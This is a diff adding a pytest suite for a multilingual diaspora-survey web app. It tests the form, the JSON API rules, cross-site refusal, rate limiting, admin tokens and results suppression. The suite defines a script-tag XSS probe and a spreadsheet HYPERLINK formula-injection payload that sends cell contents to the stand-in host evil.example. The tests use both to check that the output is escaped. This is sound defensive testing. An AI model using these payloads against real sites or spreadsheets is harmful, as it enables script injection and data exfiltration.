@@ -1,0 +1,209 @@
+"""The survey in the web app: the form, the JSON API's rules, protections and anonymity."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from survey_helpers import ADMIN_TOKEN, VALID_ANSWERS, make_client
+
+HOSTILE_TEXT = "<script>alert('x')</script>"
+HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def submission_id_of(html: str) -> str:
+    return re.search(r'name="submission_id" value="([^"]+)"', html).group(1)
+
+
+def test_form_page_is_private_and_explains_what_is_kept(client):
+    page = client.get("/s/kz")
+    assert page.status_code == 200
+    assert page.headers["cache-control"] == "no-store"
+    assert "set-cookie" not in page.headers
+    assert "What is kept:" in page.text and "What is not kept:" in page.text
+    assert "your name, your IP address, your device or browser, cookies, or the time of day." in page.text
+    assert '<form class="survey-form" method="post"' in page.text
+    assert "<script" not in page.text  # works without JavaScript
+    assert "Following news and events in Kazakhstan matters to me" in page.text
+
+
+def test_form_in_russian_and_kazakh(client):
+    assert "Мне важно следить за новостями и событиями в Казахстане" in client.get("/s/kz?lang=ru").text
+    assert "Қазақстандағы жаңалықтар мен оқиғаларды бақылау мен үшін маңызды" in client.get("/s/kz?lang=kk").text
+    assert "Что сохраняется:" in client.get("/s/kz?lang=ru").text
+
+
+def test_form_post_stores_and_thanks(client, survey_app):
+    sid = submission_id_of(client.get("/s/kz").text)
+    reply = client.post("/s/kz", data={"submission_id": sid, **VALID_ANSWERS}, follow_redirects=False)
+    assert reply.status_code == 303 and reply.headers["location"] == "/s/kz/thanks?lang=en"
+    assert "Your answers have been saved." in client.get(reply.headers["location"]).text
+    # Sending the same page twice stores it once.
+    client.post("/s/kz", data={"submission_id": sid, **VALID_ANSWERS}, follow_redirects=False)
+    stored = survey_app.state.web.survey_store.responses("kz")
+    assert len(stored) == 1 and stored[0]["answers"]["home_language"] == "mainly_kazakh"
+    assert stored[0]["origin"] == "web"
+
+
+def test_form_post_validation_messages(client):
+    reply = client.post("/s/kz", data={**VALID_ANSWERS, "identity_news": "9", "home_language": "",
+                                       "favourite_colour": "red"})
+    assert reply.status_code == 422
+    assert "identity_news</a>: &#39;9&#39; is not one of the choices" in reply.text
+    assert "home_language</a>: this question needs an answer" in reply.text
+    assert "favourite_colour</a>: this field is not part of the form" in reply.text
+    # The respondent's other answers are kept in the page.
+    assert 'value="mainly_kazakh"' not in reply.text or 'name="home_language" value="mainly_kazakh" checked' not in reply.text
+    assert 'name="gender" value="female" checked' in reply.text
+
+
+def api(client, answers, submission_id="client-sub-0001", **headers):
+    return client.post("/s/kz/submissions", json={"submission_id": submission_id, "answers": answers}, headers=headers)
+
+
+def test_api_created_replay_conflict(client, survey_app):
+    first = api(client, VALID_ANSWERS)
+    assert first.status_code == 201 and first.json() == {"submission_id": "client-sub-0001", "status": "stored"}
+    replay = api(client, VALID_ANSWERS)
+    assert replay.status_code == 201 and replay.json() == first.json() and replay.headers["x-replayed"] == "true"
+    conflict = api(client, {**VALID_ANSWERS, "identity_news": "1"})
+    assert conflict.status_code == 409
+    assert conflict.json()["error"] == "submission client-sub-0001 was already received with other answers"
+    assert survey_app.state.web.survey_store.count("kz") == 1
+
+
+def test_api_validation_messages(client):
+    reply = api(client, {**VALID_ANSWERS, "age_band": "42", "unknown": "x", "country_of_residence": None})
+    assert reply.status_code == 422
+    assert reply.json()["problems"] == [
+        {"field": "unknown", "message": "this field is not part of the form"},
+        {"field": "age_band", "message": "'42' is not one of the choices"},
+        {"field": "country_of_residence", "message": "this question needs an answer"},
+    ]
+    assert api(client, VALID_ANSWERS, submission_id="x").status_code == 400
+    bad_shape = client.post("/s/kz/submissions", json={"submission_id": "client-sub-0002", "answers": {}, "ip": "1"})
+    assert bad_shape.status_code == 400
+    assert client.post("/s/kz/submissions", content=b"{}", headers={"content-type": "text/plain"}).status_code == 415
+    assert api(client, VALID_ANSWERS).headers["cache-control"] == "no-store"
+
+
+def test_body_size_cap(client):
+    big = {**VALID_ANSWERS, "comments": "x" * 70_000}
+    assert api(client, big).status_code == 413
+    reply = client.post("/s/kz", data=big)
+    assert reply.status_code == 413
+    assert reply.headers["cache-control"] == "no-store"
+
+
+@pytest.mark.parametrize("headers", [{"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"},
+                                     {"origin": "null"}, {"sec-fetch-site": "same-site"}])
+def test_cross_site_posts_are_refused(client, survey_app, headers):
+    assert client.post("/s/kz", data=VALID_ANSWERS, headers=headers).status_code == 403
+    assert api(client, VALID_ANSWERS, **headers).status_code == 403
+    assert client.post("/s/kz/admin/export", data={"token": ADMIN_TOKEN}, headers=headers).status_code == 403
+    assert survey_app.state.web.survey_store.count("kz") == 0
+
+
+def test_same_origin_post_is_accepted(client):
+    headers = {"origin": "http://testserver", "sec-fetch-site": "same-origin"}
+    assert client.post("/s/kz", data=VALID_ANSWERS, headers=headers, follow_redirects=False).status_code == 303
+
+
+def test_rate_limit_in_memory(tmp_path, monkeypatch):
+    from diaspora_observatory.web.app import create_app
+
+    monkeypatch.setenv("DIASPORA_SURVEY_RATE_LIMIT", "3")
+    app = create_app(data_dir=tmp_path / "data")
+    client = make_client(app)
+    codes = [api(client, VALID_ANSWERS, submission_id=f"rate-limit-{n:04d}").status_code for n in range(5)]
+    assert codes == [201, 201, 201, 429, 429]
+    app.state.web.survey_store.close()
+
+
+def test_hostile_answers_are_inert_everywhere(client):
+    answers = {**VALID_ANSWERS, "comments": HOSTILE_TEXT}
+    assert api(client, answers, submission_id="hostile-0001").status_code == 201
+    assert api(client, {**VALID_ANSWERS, "comments": HOSTILE_FORMULA}, submission_id="hostile-0002").status_code == 201
+    results = client.get("/s/kz/results").text
+    assert "<script>alert" not in results and "HYPERLINK" not in results  # free text is never published
+    admin = client.post("/s/kz/admin", data={"token": ADMIN_TOKEN})
+    assert admin.status_code == 200
+    assert "<script>alert" not in admin.text
+    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in admin.text
+    export = client.post("/s/kz/admin/export", data={"token": ADMIN_TOKEN})
+    assert export.status_code == 200 and export.headers["cache-control"] == "no-store"
+    assert "\n" + "hostile-0002" in export.text
+    assert ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" in export.text
+    assert ",=HYPERLINK" not in export.text and ',"=HYPERLINK' not in export.text
+
+
+def test_admin_needs_the_token(client, survey_app):
+    assert client.get("/s/kz/admin").status_code == 200  # the token form
+    assert client.post("/s/kz/admin/export", data={"token": "wrong"}).status_code == 403
+    assert client.post("/s/kz/admin/export").status_code == 403
+    assert client.post("/s/kz/admin/close", data={"token": "wrong"}).status_code == 403
+    assert survey_app.state.web.survey_store.get_survey("kz").status == "open"
+
+
+def test_admin_close_reopen_delete(client, survey_app):
+    assert client.post("/s/kz/admin/close", data={"token": ADMIN_TOKEN}).status_code == 200
+    assert client.get("/s/kz").status_code == 410
+    assert api(client, VALID_ANSWERS).status_code == 410
+    client.post("/s/kz/admin/open", data={"token": ADMIN_TOKEN})
+    assert api(client, VALID_ANSWERS).status_code == 201
+    assert client.post("/s/kz/admin/delete", data={"token": ADMIN_TOKEN, "confirm": "nope"}).status_code == 400
+    assert client.post("/s/kz/admin/delete", data={"token": ADMIN_TOKEN, "confirm": "kz"}).status_code == 200
+    assert client.get("/s/kz").status_code == 404
+
+
+def test_share_page_and_qr_code(client):
+    share = client.get("/s/kz/share")
+    assert share.status_code == 200
+    assert 'value="http://testserver/s/kz"' in share.text and 'src="/s/kz/qr.svg"' in share.text
+    qr = client.get("/s/kz/qr.svg")
+    assert qr.status_code == 200 and qr.headers["content-type"].startswith("image/svg+xml")
+    assert "<svg" in qr.text and "<path" in qr.text
+
+
+def test_generated_admin_token_is_stored_hashed(tmp_path, monkeypatch, capsys):
+    from diaspora_observatory.survey.admin import check_admin_token, ensure_admin_token, token_file
+
+    monkeypatch.delenv("DIASPORA_ADMIN_TOKEN", raising=False)
+    token = ensure_admin_token(tmp_path)
+    assert token and token in capsys.readouterr().err
+    assert token not in token_file(tmp_path).read_text()
+    assert check_admin_token(tmp_path, token) and not check_admin_token(tmp_path, token + "x")
+    assert ensure_admin_token(tmp_path) is None  # only at first start
+
+
+def test_results_page_suppresses_small_counts(client, survey_app):
+    store = survey_app.state.web.survey_store
+    for number in range(24):
+        answers = {**VALID_ANSWERS, "home_language": "mainly_kazakh" if number < 23 else "russian_only",
+                   "identity_news": "3" if number % 2 else "4"}
+        assert api(client, answers, submission_id=f"results-{number:04d}").status_code == 201
+    assert store.count("kz") == 24
+    data = client.get("/s/kz/results.json").json()
+    home = next(item for item in data["items"] if item["item"] == "home_language")
+    shown = {row["category"]: row["count"] for row in home["categories"]}
+    # 0, 23, 0, 1: the hidden cells (0, 0, 1) add up to fewer than 10, so the 23 is hidden too.
+    assert shown == {"kazakh_only": None, "mainly_kazakh": None, "mainly_russian": None, "russian_only": None}
+    assert {row["n"] for row in home["categories"]} == {24}
+    news = next(item for item in data["items"] if item["item"] == "identity_news")
+    assert sorted((row["count"] for row in news["categories"]), key=str) == [12, None, None, None, None]
+    means = {row["item"]: row for row in data["means"]}
+    assert means["identity_news"]["mean"] == 3.5 and means["identity_news"]["n"] == 24
+    page = client.get("/s/kz/results")
+    assert page.status_code == 200 and "The study&#39;s published figures" in page.text
+    assert '<link rel="alternate" type="text/csv" href="/s/kz/results.csv">' in page.text
+    csv_text = client.get("/s/kz/results.csv").text
+    assert csv_text.splitlines()[0] == "item,category,label,count,share,ci_low,ci_high,n,suppressed,source"
+    assert client.get("/s/kz/likert.svg").headers["content-type"].startswith("image/svg+xml")
+    crosstab = client.get("/s/kz/results?row=home_language&by=gender")
+    assert crosstab.status_code == 200 and "Cross-tabulation" in crosstab.text
+
+
+def test_unknown_survey_pages(client):
+    assert client.get("/s/nope").status_code == 404
+    assert api(client, VALID_ANSWERS).status_code == 201
+    assert client.post("/s/nope/submissions", json={"submission_id": "abcdefgh", "answers": {}}).status_code == 404
